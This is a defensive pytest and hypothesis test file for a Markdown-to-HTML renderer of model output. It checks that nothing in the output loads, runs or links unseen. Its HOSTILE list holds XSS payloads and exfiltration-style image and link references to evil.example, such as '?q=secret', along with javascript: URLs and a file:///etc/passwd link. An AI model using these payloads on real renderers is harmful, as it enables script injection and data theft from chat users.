"""Markdown of a model as HTML: what is rendered, and that nothing in it loads, links unseen or runs."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from taiwa.kernel.errors import ToolError
from taiwa.kernel.serialization import Json
from taiwa.operations import markdown_html
from taiwa.operations.markdown_html import MarkdownStream, render_together, to_html, visible
from tests.steps import lines_run
from tests.strategies import joined

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/a.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "<https://evil.example/?q=secret>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    '[x](https://e.example "onmouseover=alert(1)")',
    '[x](https://e.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$$\\class{x}{<img src=x>}$$",
    "| <script> | ![](https://evil.example) |\n|--|--|\n| <b> | [y](javascript:1) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>alert(1)</script>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=q></form>",
    "\u202egnp.exe",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "[\u202emoc.elpmaxe](https://evil.example)",
    'https://evil.example/"onmouseover=alert(1)//',
    '\\(\\href{javascript:alert(1)}{x}\\) \\[<img src=x>\\](y"onload=1)',
    "- [x] <script>alert(1)</script>",
]
TAGS = frozenset(
    """h1 h2 h3 h4 h5 h6 p em strong s code pre a small span div ul ol li blockquote hr br table thead tbody tr th td
    math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded
    mphantom menclose merror mmultiscripts mprescripts""".split()
)


class Page(HTMLParser):
    """The tags of a page, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    for tag, attributes in Page(html).tags:
        assert tag in TAGS
        assert not any(name.startswith("on") or name in {"src", "srcset"} for name in attributes)
        href = attributes.get("href")
        assert href is None or href.startswith(("http://", "https://", "mailto:"))
        assert href is None or "noreferrer" in (attributes["rel"] or "")
        assert "style" not in attributes


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_loads_or_runs_anything(text: str) -> None:
    assert_inert(to_html(text))
    assert_inert(to_html(f"- {text}\n\n> {text}"))


SIGNS = [*"<>[]()!`$\\|&;'\"=#*_~ \n:-x/1", "javascript:", "https://e.example/", "script"]


PIECES = [
    *SIGNS, "[x](y)", "![", "**", "> ", "- ", "1. ", "\n\n", "    ", "| a |", "\n|--|\n", "```", "$$", "\\(", "\\[", "\\frac{", "}", "\\left(",
    "\\begin{matrix}", "^", "&", "\\\\",
]  # fmt: skip
WRAPPERS = [
    ("> ", ""), ("- ", "\n"), ("[", "](https://e.example/)"), ("![", "](y)"), ("**", "**"), ("~~", "~~"), ("`", "`"), ("$", "$"), ("$$", "$$"),
    ("\\frac{", "}{1}"), ("\\sqrt{", "}"), ("\\left(", "\\right)"), ("```\n", "\n```"), ("| ", " |\n|--|\n"), ("<a>", "</a>"), ("\\(", "\\)"),
]  # fmt: skip


@given(
    st.recursive(
        st.sampled_from(HOSTILE),
        lambda inside: st.builds(lambda each, wrapper: each.join(wrapper), inside, st.sampled_from(WRAPPERS)),
    )
)
def test_what_is_nested_loads_and_runs_nothing(text: str) -> None:
    assert_inert(to_html(text))


@given(joined(PIECES, min_size=1, max_size=6), st.sampled_from(["", "$"]))
def test_four_times_the_text_is_at_most_sixteen_times_the_work(piece: str, around: str) -> None:
    render = markdown_html._renderer().render
    render(f"{piece}```python\nx\n```\n$x$")  # imports and caches

    once, more = (lines_run(render, visible((piece * count).join((around, around)))) for count in (8, 32))

    assert more <= 16 * max(once, 500)


@given(joined(SIGNS))
def test_no_mixture_of_signs_loads_or_runs_anything(text: str) -> None:
    assert_inert(to_html(text))


def test_an_image_becomes_its_description_and_its_host() -> None:
    html = to_html("![a map](https://maps.example/a.png)")

    assert "a map" in html
    assert "maps.example" in html
    assert "<img" not in html


def test_a_link_shows_where_it_leads() -> None:
    assert '<a href="https://e.example/p"' in to_html("[our bank](https://e.example/p)")
    assert "<small>(e.example)</small>" in to_html("[our bank](https://e.example/p)")


def test_a_link_with_a_long_query_is_asked_about_before_it_is_opened() -> None:
    assert "data-confirm" in to_html(f"[x](https://e.example/?q={'a' * 100})")
    assert "data-confirm" not in to_html("[x](https://e.example/?q=a)")


def test_characters_that_hide_or_reorder_text_are_shown() -> None:
    assert visible("a\u202eb\x1b[31m\r\nc") == "a⟨U+202E⟩b⟨U+001B⟩[31m\nc"


def test_a_column_is_aligned_by_a_class() -> None:
    assert '<td class="right">1</td>' in to_html("| a |\n|--:|\n| 1 |")


def test_code_is_highlighted_and_mathematics_is_mathml() -> None:
    assert '<span class="k">def</span>' in to_html("```python\ndef f(): pass\n```")
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in to_html("$x^2$")
    assert "<mo>∑</mo>" in to_html("$$\\sum_i x$$")
    assert "<math" not in to_html("It costs $5, or $6 there.")


LATEX = """\\frac { } ^ _ \\sqrt [ ] \\begin{matrix} \\end{matrix} & \\\\ \\left( \\right) x 1 \\text{a} \\limits \\genfrac
    \\color \\hspace{1em} \\href{a}{b}""".split()


@pytest.mark.parametrize(
    "text",
    [
        "$" + "\\frac{1}{" * 300 + "x" + "}" * 300 + "$",
        "$" + "\\sqrt{" * 900 + "x" + "}" * 900 + "$",
        "$" + "x+" * 50_000 + "x$",
        "```systemd\n[a]\nb=" + " " * 1_600 + "\n```",
        "```\n" + "`" * 50_000,
        ">" * 2_000 + "- " * 2_000,
    ],
    ids=lambda text: text[:12],
)
def test_a_text_that_is_nested_or_takes_long_is_shown(text: str) -> None:
    html = to_html(text)

    assert_inert(html)
    assert "x" in html or "pre" in html or "blockquote" in html


def test_a_text_that_does_not_end_stays_plain_and_is_not_tried_again(monkeypatch: pytest.MonkeyPatch) -> None:
    tried: list[str] = []

    def ask(question: dict[str, Json]) -> dict[str, Json]:
        tried.append(str(question["text"]))
        raise ToolError("the renderer timed out", code="timeout")

    monkeypatch.setattr(markdown_html._processes, "ask", ask)
    stream = MarkdownStream()

    assert [to_html("*slow* <b>") for _ in range(3)] == ["<pre>*slow* &lt;b&gt;</pre>"] * 3
    assert [(stream.add(each), stream.render().open) for each in ("*a*", "<b>")] == [
        (True, "<pre>*a*</pre>"),
        (True, "<pre>*a*&lt;b&gt;</pre>"),
    ]
    assert tried == ["*slow* <b>", "*a*"]


def test_a_stream_whose_renderings_take_long_together_stays_plain(monkeypatch: pytest.MonkeyPatch) -> None:
    def ask(question: dict[str, Json]) -> dict[str, Json]:
        return {
            "closed": "",
            "open": "<p>*a*</p>",
            "rest": question["text"],
            "seconds": 0.8 * markdown_html.LIMITS.seconds,
        }

    monkeypatch.setattr(markdown_html._processes, "ask", ask)
    stream = MarkdownStream()

    shown = [stream.render().open for _ in range(4) if stream.add("*a*")]

    assert shown == ["<p>*a*</p>", "<p>*a*</p>", "<pre>*a**a**a*</pre>", "<pre>*a**a**a**a*</pre>"]


def test_texts_of_a_page_are_rendered_with_one_question_and_shown_again_without_one(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked, ask = list[dict[str, Json]](), markdown_html._processes.ask
    monkeypatch.setattr(markdown_html._processes, "ask", lambda question: asked.append(question) or ask(question))
    texts = [f"Tea **{number}** of a page." for number in range(5)]

    for _ in range(2):
        render_together([*texts, texts[0]])
        assert [to_html(text) for text in texts] == [
            f"<p>Tea <strong>{number}</strong> of a page.</p>\n" for number in range(5)
        ]

    assert asked == [{"texts": texts}]


def test_a_text_that_does_not_end_costs_only_itself_its_rendering(monkeypatch: pytest.MonkeyPatch) -> None:
    def ask(question: dict[str, Json]) -> dict[str, Json]:
        if "texts" in question or question["text"] == "*endless*":
            raise ToolError("the renderer timed out", code="timeout")
        return {"html": "<p>fine</p>"}

    monkeypatch.setattr(markdown_html._processes, "ask", ask)
    render_together(["*endless*", "quick beside it"])

    assert [to_html("*endless*"), to_html("quick beside it")] == ["<pre>*endless*</pre>", "<p>fine</p>"]


@pytest.mark.parametrize("line", ["x = 1  # a comment\n", "- item\n", "word "])
def test_the_work_of_a_stream_is_in_proportion_to_its_text(line: str) -> None:
    text = "```python\n" + line * 2_000 if "=" in line else line * 2_000
    stream, work = MarkdownStream(), 0

    for place in range(0, len(text), 4):
        if stream.add(text[place : place + 4]):
            rendered = stream.render()
            work += len(rendered.open) + len(rendered.closed)

    assert work < 40 * len(to_html(text))


@given(joined(LATEX, min_size=1, max_size=12))
def test_invalid_mathematics_breaks_nothing(source: str) -> None:
    assert_inert(to_html(f"${source}$"))


@given(
    st.lists(st.sampled_from(["# A", "- x", "- y", "", "```", "a b", "| a |", "|--|", "> q", "$x$", "1. z"])),
    st.randoms(),
)
def test_a_stream_renders_closed_blocks_once_and_ends_in_the_same_text(lines: list[str], random: object) -> None:
    text = "\n".join(lines)
    stream, closed, left, place = MarkdownStream(), "", "", 0
    while place < len(text):
        step = getattr(random, "randint")(1, 5)  # noqa: B009
        stream.add(text[place : place + step])
        html = stream.render()
        closed, left = closed + html.closed, html.open
        place += step

    shown = Page(closed + left).tags
    assert_inert(closed + left)
    assert [tag for tag, _ in shown if tag in {"h1", "pre", "blockquote"}] == [
        tag for tag, _ in Page(to_html(text)).tags if tag in {"h1", "pre", "blockquote"}
    ]


@pytest.mark.parametrize("text", [r"\(x^2\)", r"\[x^2\]", "$x^2$", "$$x^2$$"])
def test_mathematics_is_written_with_dollars_or_backslashes(text: str) -> None:
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in to_html(text)


def test_bare_addresses_are_links_without_the_punctuation_behind_them() -> None:
    html = to_html(
        "See https://tea.example/a_b?q=1, and (http://b.example). `https://code.example` [x](https://c.example)"
    )

    links = [attributes["href"] for tag, attributes in Page(html).tags if tag == "a"]
    assert links == ["https://tea.example/a_b?q=1", "http://b.example", "https://c.example"]


def test_tasks_have_boxes() -> None:
    html = to_html("- [x] done\n- [ ] open")

    assert "☑ done" in html.replace("  ", " ")
    assert "☐ open" in html.replace("  ", " ")
